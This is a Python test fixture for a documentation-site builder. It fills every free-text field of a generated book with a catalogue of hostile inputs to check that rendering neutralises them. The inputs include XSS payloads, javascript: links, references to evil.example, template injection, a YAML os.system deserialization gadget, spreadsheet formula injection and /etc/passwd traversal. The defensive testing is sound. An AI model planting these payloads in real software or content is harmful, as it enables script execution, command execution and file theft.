"""Texts that try to become more than text, and a book that holds one in every free-text field.

Where a payload runs, it calls `hit()`; where it makes an element, that element bears `bb-hit` somewhere.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import yaml

from briefbook.evidence.fingerprint import fingerprints_of, pack, sha256
from briefbook.evidence.words import words
from briefbook.kinds import BY_FOLDER
from briefbook.load.tree import _FORBIDDEN

PAYLOADS = (
    # elements
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><img src=x onerror=hit()>",
    "<img src=x onerror=hit() class=bb-hit>",
    "<img src=x onerror=hit()//",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x>",
    "<math><mi//xlink:href=javascript:hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit() class=bb-hit>click</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=javascript:hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<template><script>hit()</script></template>",
    "<!--><script>hit()</script>-->",
    "<!-- bb-hit",
    "<![CDATA[<script>hit()</script>]]>",
    "<?php hit() ?>",
    "<div markdown><script>hit()</script></div>",
    "<div markdown='1' onclick='hit()'>x</div>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&#8203;",
    "<img srcset='x 1x' src=x onerror=hit()>",
    "<picture><source srcset=x><img src=x onerror=hit()></picture>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'></use></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=20>bb-hit</text></a></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<p id=1 onpointerenter=hit() tabindex=0>bb-hit</p>",
    "<button onfocus=hit() autofocus>x</button>",
    "<select onfocus=hit() autofocus></select>",
    "<marquee onstart=hit()>x</marquee>",
    "<keygen autofocus onfocus=hit()>",
    "<a href='java&Tab;script:hit()'>x</a>",
    "<a href=&#x6A;avascript:hit()>x</a>",
    "<embed src=javascript:hit()>",
    "<isindex type=image src=1 onerror=hit()>",
    "<x onclick=hit() contenteditable>x</x>",
    "<div style='animation-name:x' onanimationstart=hit()>x</div>",
    "<plaintext>",
    "<xmp><img src=x onerror=hit()>",
    "<ruby oncopy=hit()>x</ruby>",
    "<\u017fcript>hit()</\u017fcript>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    # links
    "[click](javascript:hit())",
    "[click](JaVaScRiPt:hit())",
    "[click](java&#115;cript:hit())",
    "[click](data:text/html,<script>hit()</script>)",
    "[click](//evil.example)",
    "[click][1]",
    "[1]: javascript:hit()",
    "![image](javascript:hit())",
    "![image](x){onerror=hit()}",
    "![x](//evil.example/x.png)",
    "<javascript:hit()>",
    "<https://evil.example>",
    "<mira@evil.example>",
    "https://evil.example/?q=<script>hit()</script>",
    "[[nobody|x]](javascript:hit())",
    "[x](a 'title\" onclick=hit()')",
    "]( javascript:hit() ) [",
    "](x){: onclick=hit() }",
    # attribute lists, definition lists, footnotes, admonitions, tables, headings, abbreviations, snippets
    "{: onclick=hit() }",
    "{ onclick=hit() }",
    "{onmouseover=hit() .bb-hit}",
    "text {: #bb-hit onclick=hit() }",
    "**bold**{: onclick=hit() }",
    "`code`{: onclick=hit() }",
    "[^1]",
    "[^1]: footnote bb-hit",
    "^[inline]",
    ": definition",
    ":   definition",
    '!!! note "bb-hit"',
    "!!! hit",
    "??? note",
    "| a | b |",
    "a | b",
    "|---|---|",
    "# heading",
    "###### heading",
    "heading {#bb-hit}",
    "=======",
    "-------",
    "---",
    "***",
    "___",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    "1986. A great year",
    "> quotation",
    "```",
    "``` {.js onclick=hit()}",
    "~~~",
    "    indented code",
    "`code`",
    "``a ` b``",
    "*emphasis* and _emphasis_ and **strong** and __strong__",
    "snake_case_word and 2*3*4",
    "~~gone~~ ~sub~ ^sup^ ==mark== ++ins++",
    "*[HTML]: bb-hit",
    '--8<-- "/etc/passwd"',
    "--8<-- mkdocs.yml",
    ";--8<--",
    ":smile: :material-alert:",
    "@user #1 $x$ $$x$$ \\(x\\) \\[x\\]",
    "\\*not emphasis\\* \\<b\\>",
    "line one  \nline two\\\nline three",
    "para one\n\npara two\n\n<script>hit()</script>",
    "a\n===\nb\n---\n",
    # templates, front matter, scripts, files
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{# comment #}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "---\ntitle: bb-hit\n---\n",
    "title: bb-hit",
    "...",
    "%YAML 1.1",
    "!!python/object/apply:os.system ['id']",
    "&anchor *alias",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "'-hit()-'",
    '"-hit()-"',
    "`-hit()-`",
    "javascript:hit()",
    "*/hit()/*",
    "\\';hit();//",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "../../../etc/passwd",
    "wzxhzdk:0 klzzwxh:0 stash",
    "STX\\x02ETX",
    "<b>bold</b> & <i>it</i>",
    "\u00a0\u2003wide\u2003spaces",
    "🚢 ünï نص ‏x",
)
"""The last one loses its direction mark before it goes into YAML, where that is refused."""


def for_yaml(payload: str) -> str:
    """The payload as the loader lets it through: without direction marks."""
    return payload.replace("\u200f", "")


def write_book(folder: Path, payloads: tuple[str, ...] = PAYLOADS) -> Path:
    """Writes a book of which every free-text field holds payloads, all of them in turn. Gives its folder."""
    given = [for_yaml(payload) for payload in payloads]
    turn = iter(given * 100)

    def text(longest: int = 400) -> str:
        found = next(turn)
        while not found.strip() or len(found) > longest:
            found = next(turn)
        return found

    paragraphs = [*given, "plain words at the end of it all"]
    short = [one if len(words(one)) <= 12 else "a longer one, which nobody may copy" for one in paragraphs]
    article = "\n\n".join(" ".join(one.split()) for one in short)
    at = list(range(1, len(paragraphs) + 1))
    kinds = ("people", "events", "agreements", "themes", "organisations", "places", "equipment")
    single = {"people": "person", "agreements": "deal", "themes": "theme", "organisations": "org", "places": "place"}
    ids = {kind: [f"{single.get(kind, kind)}-{number}" for number in range(1, 4)] for kind in kinds}
    for source in ("one", "two"):
        brief: dict[str, Any] = {
            "source": {
                "title": text(),
                "subtitle": text(),
                "author": text(),
                "publisher": text(),
                "published": "2014-11-20" if source == "one" else "2016",
                "published_basis": text(),
                "origin": ids["organisations"],
                "genre": "analysis",
                "url": "https://example.org/?q='\"<script>hit()</script>&a=(b)*_c_[d]".replace(" ", ""),
                "language": text(20),
                "note": text(),
            },
            "summary": " ".join(text() for _ in range(6)) + " [1, 2]",
            "furniture": {at[-1]: text()},
            "figures": [
                {
                    "of": ids["events"][0],
                    "measure": text(),
                    "value": number,
                    "unit": text(),
                    "note": text(),
                    "as_of": 2014,
                    "by": ids["people"][0],
                    "at": at[:2],
                }
                for number in (1, 2)
            ],
            "claims": [
                {
                    "n": number,
                    "says": given[number - 1] if given[number - 1].strip() else "x",
                    "about": [ids[kind][number % 3] for kind in kinds],
                    "by": ids["people"][number % 3],
                    "basis": "quoted",
                    "date": 2014 + number % 3,
                    "at": at[:3],
                    "note": text(),
                    "origin": ids["organisations"][0],
                    **(
                        {"contradicts": [{"claim": f"one#{number}", "on": text(90), "note": text()}]}
                        if source == "two" and number % 3 == 0
                        else {}
                    ),
                }
                for number in range(1, len(given) + 1)
            ],
        }
        for kind in kinds:
            brief[kind] = {
                id: {"name": text(180), "as": [], "at": at[:-1], "note": text(), **_properties(kind, ids, text, source)}
                for id in ids[kind]
            }
            for entry in brief[kind].values():
                del entry["as"]
        _dump(folder / f"briefs/{source}.yaml", _strings(brief))
        raw = article.encode()
        prints = [{"words": pack(p.words), "runs": pack(p.runs)} for p in fingerprints_of(article)]
        _dump(folder / f"seeds/{source}.yaml", {"file": text(100), "sha256": sha256(raw), "paragraphs": prints})
    for kind in kinds:
        entries = {
            ids[kind][0]: {
                "name": text(180),
                "also": [{"name": text(180), "language": text(20), "basis": text()}],
                "formerly": [f"old-{kind}"],
                "not": [{"id": ids[kind][1], "note": text()}],
                "description": text(),
            }
        }
        _dump(folder / f"briefs/authority/{kind}.yaml", _strings(entries))
    _dump(
        folder / "briefs/authority/assessments.yaml",
        _strings([{"disagreement": f"{ids['places'][0]}--coordinates", "says": text(), "by": text(180), "date": 2020}]),
    )
    settings = {**yaml.safe_load((Path(__file__).parent / "books/mini/mkdocs.yml").read_text())}
    settings |= {"site_name": "Hostile", "site_description": "A book of payloads."}
    _dump(folder / "mkdocs.yml", settings)
    return folder


class Texts:
    """Hands out texts for fields, one after the other; one that is too long for a field waits for the next."""

    def __init__(self, texts: Sequence[str], start: int) -> None:
        self.texts = texts
        self.next = start
        self.waiting: list[str] = []
        self.handed = 0

    def __call__(self, longest: int = 200) -> str:
        """The next text of at most so many characters."""
        for _ in self.texts:
            found = next((text for text in self.waiting if len(text) <= longest), None)
            if found is not None:
                self.waiting.remove(found)
                self.handed += 1
                return found
            self.waiting.append(self.texts[self.next % len(self.texts)])
            self.next += 1
        return "x"


def write_wide_book(folder: Path, texts: Sequence[str], briefs: int, start: int = 0, step: int | None = 1) -> int:
    """Writes a book of many small briefs with texts in every free-text field. Gives the number of texts handed out.

    With step 1 the first field of brief n holds text n, the second text n + 1 and so on: with as many briefs as texts,
    every field holds every text once. With step None each text is handed out once. The texts must be such as the loader
    takes (see `loadable`).
    """
    authority: dict[str, dict[str, Any]] = {kind: {} for kind in BY_FOLDER}
    assessments = []
    handed = 0
    text = Texts(texts, start)
    for number in range(briefs):
        if step is not None:
            handed, text = handed + text.handed, Texts(texts, start + number * step)
        ids = {kind: f"{BY_FOLDER[kind].id}-{number}" for kind in BY_FOLDER}
        before = {kind: f"{BY_FOLDER[kind].id}-{number - 1}" for kind in BY_FOLDER} if number else ids
        paragraphs = [f"Name {text()}" for _ in range(5)] + [f"three plain words {text(60)}", "the end of it"]
        at = list(range(1, len(paragraphs) + 1))
        entities = {kind: _wide_entity(kind, number, ids, before, paragraphs, text) for kind in BY_FOLDER}
        if number:
            entities["places"][before["places"]] = {"at": 1, "coordinates": text(100)}
        brief = {
            "source": {
                **{name: text() for name in ("title", "subtitle", "author", "publisher", "published_basis", "note")},
                "published": f"20{number % 90 + 10}-01-01",
                "origin": [ids["organisations"]],
                "genre": "analysis",
                "language": "en" if step is None else text(20),  # no page shows it
            },
            "summary": f"{text()} {text()} [1, 2]",
            "furniture": {at[-1]: text()},
            **entities,
            "figures": [
                {"of": ids["events"], "value": number, "as_of": 2014, "by": ids["people"], "at": at}
                | {name: text() for name in ("measure", "unit", "note")}
                | {"as": paragraphs[4]}
            ],
            "claims": [
                {
                    "n": one,
                    "says": text(),
                    "about": list(ids.values()),
                    "by": ids["people"],
                    "basis": "quoted",
                    "date": 2014,
                    "at": at,
                    "note": text(),
                    "quote": paragraphs[5],
                    **({"contradicts": [_judgement(number, text)]} if number and one == 1 else {}),
                    **({"supports": [_judgement(number, text)]} if number and one == 2 else {}),
                }
                for one in (1, 2)
            ],
        }
        for kind, id in ids.items():
            authority[kind][id] = {
                "name": text(),
                "also": [{"name": text(), "language": text(20), "basis": text()}],
                "not": [{"id": before[kind], "note": text()}] if number else [],
                "description": text(),
            }
            if not number:
                del authority[kind][id]["not"]
        if number:
            on = f"{before['places']}--coordinates"
            assessments.append({"disagreement": on, "says": text(), "by": text(), "date": 2020})
        _dump(folder / f"briefs/source-{number}.yaml", brief)
        prints = fingerprints_of("\n\n".join(paragraphs))
        _dump(
            folder / f"seeds/source-{number}.yaml",
            {
                "file": text(100),
                "sha256": sha256(b""),
                "paragraphs": [{"words": pack(p.words), "runs": pack(p.runs)} for p in prints],
            },
        )
    for kind, entries in authority.items():
        _dump(folder / f"briefs/authority/{kind}.yaml", entries)
    if assessments:
        _dump(folder / "briefs/authority/assessments.yaml", assessments)
    settings = yaml.safe_load((Path(__file__).parent / "books/mini/mkdocs.yml").read_text())
    _dump(folder / "mkdocs.yml", settings | {"site_name": "Hostile", "site_description": "A book of payloads."})
    return handed + text.handed


def _wide_entity(
    kind: str, number: int, ids: dict[str, str], before: dict[str, str], paragraphs: Sequence[str], text: Texts
) -> dict[str, Any]:
    place = list(BY_FOLDER).index(kind) % 4
    entry = {"name": text(), "as": [paragraphs[place]], "at": list(range(1, len(paragraphs))), "note": text()}
    return {ids[kind]: entry | _properties(kind, {kind: [id] for kind, id in ids.items()}, text, f"{number}")}


def _judgement(number: int, text: Texts) -> dict[str, str]:
    return {"claim": f"source-{number - 1}#1", "on": text(90), "note": text()}


def loadable(text: str) -> str:
    """A text as the loader takes it and a reader is shown it: without forbidden signs, white space in a row as one space.

    Double brackets and numbers in brackets are links and paragraphs in an editor's prose; they get a space between.
    """
    plain = " ".join(_FORBIDDEN.sub("", text).split())
    return re.sub(r"\[(?=[\[\d])", "[ ", plain)


def _properties(kind: str, ids: dict[str, list[str]], text: Any, source: str) -> dict[str, Any]:
    long = {"note": text()}
    match kind:
        case "people":
            return {
                "role": [{"value": text(), "from": 2001, **long}],
                "rank": text(),
                "organisation": ids["organisations"],
            }
        case "events":
            return {"date": {"value": 2014, **long}, "people": ids["people"], "place": ids["places"], "type": "visit"}
        case "agreements":
            stage = {"stage": "signed", "date": 2014, "place": ids["places"][0], "by": ids["people"], **long}
            return {"subject": text(), "stages": [stage], "parties": ids["places"], "event": ids["events"][0]}
        case "themes":
            return {"description": {"value": text(), **long}}
        case "organisations":
            return {"type": {"value": text(), **long}, "country": ids["places"][0]}
        case "places":
            return {"type": {"value": text(), **long}, "coordinates": f"{text(100)} {source}"}
    return {"type": {"value": text(), **long}, "maker": ids["organisations"][0]}


def _strings(data: Any) -> Any:
    """The same data with prose links taken out of the way: `[[nobody]]` would be refused as an id of nobody."""
    return json.loads(json.dumps(data).replace("[[nobody|x]]", "[nobody]"))


def _dump(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    data = json.loads(json.dumps(data))  # so that no value stands there twice, which would be an anchor
    path.write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False, width=10_000), encoding="utf-8")
